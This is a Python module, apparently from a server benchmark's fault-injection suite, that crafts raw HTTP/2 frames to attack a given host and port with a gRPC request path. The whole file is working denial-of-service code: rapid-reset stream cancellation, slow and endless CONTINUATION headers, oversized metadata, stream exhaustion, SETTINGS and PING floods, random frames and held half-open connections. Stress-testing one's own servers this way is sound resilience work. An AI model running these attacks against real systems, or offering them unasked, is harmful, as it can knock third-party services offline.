"""Hostile HTTP/2 from raw sockets: `python -m benchmarks.faults.attacks KIND HOST:PORT SECONDS CONNECTIONS`.

Frames are written by hand (RFC 9113), since a library would not write what is not allowed.
"""

import contextlib
import os
import random
import socket
import struct
import sys
import time
from collections.abc import Callable, Iterator

_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_DATA, _HEADERS, _RST, _SETTINGS, _PING, _WINDOW, _CONTINUATION = 0, 1, 3, 4, 6, 8, 9
_END_STREAM, _END_HEADERS = 1, 4
_HALF_OPEN = 200  # a connection
_STREAMS = 5_000
_PATH = b"/grpc.health.v1.Health/Check"


def frame(kind: int, flags: int, stream: int, body: bytes = b"") -> bytes:
    return struct.pack(">I", len(body))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + body


def _text(value: bytes) -> bytes:
    """A string of HPACK (RFC 7541, 5.2), not Huffman-coded."""
    if len(value) < 127:
        return bytes([len(value)]) + value
    rest, length = len(value) - 127, bytearray([127])
    while rest >= 128:
        length.append(rest % 128 + 128)
        rest //= 128
    length.append(rest)
    return bytes(length) + value


def headers(*more: tuple[bytes, bytes]) -> bytes:
    """A header block of a gRPC call: literals that no table keeps."""
    fields = (
        *((b":method", b"POST"), (b":scheme", b"http"), (b":path", _PATH), (b":authority", b"x")),
        *((b"te", b"trailers"), (b"content-type", b"application/grpc"), *more),
    )
    return b"".join(b"\x00" + _text(name) + _text(value) for name, value in fields)


def _opened(address: tuple[str, int]) -> socket.socket:
    made = socket.create_connection(address, timeout=5)
    made.sendall(_PREFACE + frame(_SETTINGS, 0, 0))
    made.setblocking(False)
    return made


def _send(to: socket.socket, content: bytes) -> None:
    """Send all; read and forget what comes back. OSError once the other side has closed."""
    view = memoryview(content)
    while view:
        try:
            if not to.recv(1 << 16):
                raise ConnectionError
        except BlockingIOError:
            pass
        try:
            view = view[to.send(view) :]
        except BlockingIOError:
            time.sleep(0.001)


# ---------------------------------------------------- what is sent, piece by piece, on one connection


def rapid_reset() -> Iterator[bytes]:
    block = headers()
    for first in range(1, 2**30, 200):
        streams = range(first, first + 200, 2)
        yield b"".join(
            frame(_HEADERS, _END_HEADERS, s, block) + frame(_RST, 0, s, struct.pack(">I", 8)) for s in streams
        )


def slow_headers() -> Iterator[bytes]:
    block = headers()
    yield frame(_HEADERS, _END_STREAM, 1, block[:1])
    for at in range(1, len(block)):
        time.sleep(0.2)
        yield frame(_CONTINUATION, 0, 1, block[at : at + 1])


def huge_metadata() -> Iterator[bytes]:
    for stream in range(1, 2**30, 2):
        block = headers(*((b"x-%d" % n, b"a" * 8_000) for n in range(60)))
        parts = [block[start : start + 16_000] for start in range(0, len(block), 16_000)]
        yield frame(_HEADERS, 0, stream, parts[0])
        yield b"".join(frame(_CONTINUATION, 0, stream, part) for part in parts[1:-1])
        yield frame(_CONTINUATION, _END_HEADERS, stream, parts[-1])


def endless_headers() -> Iterator[bytes]:
    yield frame(_HEADERS, 0, 1, headers())
    while True:
        yield frame(_CONTINUATION, 0, 1, b"\x00" + _text(b"x") + _text(b"y" * 100)) * 50


def open_streams() -> Iterator[bytes]:
    block = headers()
    for stream in range(1, 2 * _STREAMS, 2):
        yield frame(_HEADERS, _END_HEADERS, stream, block)
    while True:
        time.sleep(0.2)
        yield frame(_WINDOW, 0, 0, struct.pack(">I", 1))


def settings_flood() -> Iterator[bytes]:
    while True:
        yield frame(_SETTINGS, 0, 0, struct.pack(">HI", 4, random.randrange(2**31 - 1))) * 100


def ping_flood() -> Iterator[bytes]:
    while True:
        yield frame(_PING, 0, 0, b"\0" * 8) * 100


def random_bytes() -> Iterator[bytes]:
    while True:
        yield os.urandom(2_000)


def random_frames() -> Iterator[bytes]:
    while True:
        kind, flags, stream = random.randrange(12), random.randrange(256), random.randrange(64)
        yield frame(kind, flags, stream, os.urandom(random.randrange(200)))


_PIECES: dict[str, Callable[[], Iterator[bytes]]] = {
    attack.__name__: attack
    for attack in (
        *(rapid_reset, slow_headers, huge_metadata, endless_headers, open_streams),
        *(settings_flood, ping_flood, random_bytes, random_frames),
    )
}
_SILENT = "half_open"  # connections on which nothing is ever sent
KINDS = (*_PIECES, _SILENT)


class _Attacker:
    """One connection after another."""

    def __init__(self, address: tuple[str, int], kind: str) -> None:
        self._address, self._kind = address, kind
        self._socket: socket.socket | None = None
        self._pieces: Iterator[bytes] = iter(())

    def step(self) -> None:
        try:
            if self._socket is None:
                self._socket, self._pieces = _opened(self._address), _PIECES[self._kind]()
            _send(self._socket, next(self._pieces))
        except (OSError, StopIteration):
            if self._socket is not None:
                self._socket.close()
            self._socket = None


def _attack(address: tuple[str, int], kind: str, connections: int, end: float) -> None:
    attackers = [_Attacker(address, kind) for _ in range(connections)]
    while time.monotonic() < end:
        for attacker in attackers:
            attacker.step()


def _hold_open(address: tuple[str, int], connections: int, end: float) -> None:
    with contextlib.ExitStack() as held:
        for _ in range(connections):
            held.enter_context(socket.create_connection(address, timeout=5))
        time.sleep(max(0.0, end - time.monotonic()))


def main() -> int:
    kind, at, seconds, connections = sys.argv[1:]
    host, _, port = at.rpartition(":")
    address, end = (host, int(port)), time.monotonic() + float(seconds)
    os.nice(10)  # an attacker is elsewhere: it must not win by taking the processor
    if kind == _SILENT:
        _hold_open(address, int(connections) * _HALF_OPEN, end)
    else:
        _attack(address, kind, int(connections), end)
    return 0


if __name__ == "__main__":
    sys.exit(main())
